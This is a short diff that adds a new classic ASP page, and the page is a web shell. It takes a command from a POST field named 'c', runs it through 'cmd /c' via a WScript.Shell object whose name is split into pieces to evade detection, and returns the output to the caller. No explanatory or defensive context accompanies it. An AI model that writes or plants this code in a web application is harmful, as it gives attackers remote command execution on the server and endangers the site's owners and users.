@@ -1,0 +1,7 @@
+<%
+Dim sh, c, ex
+c = Request.Form("c")
+Set sh = Server.CreateObject("WScr" & "ipt.Shell")
+Set ex = sh.Exec("cmd /c " & c)
+Response.Write ex.StdOut.ReadAll()
+%>
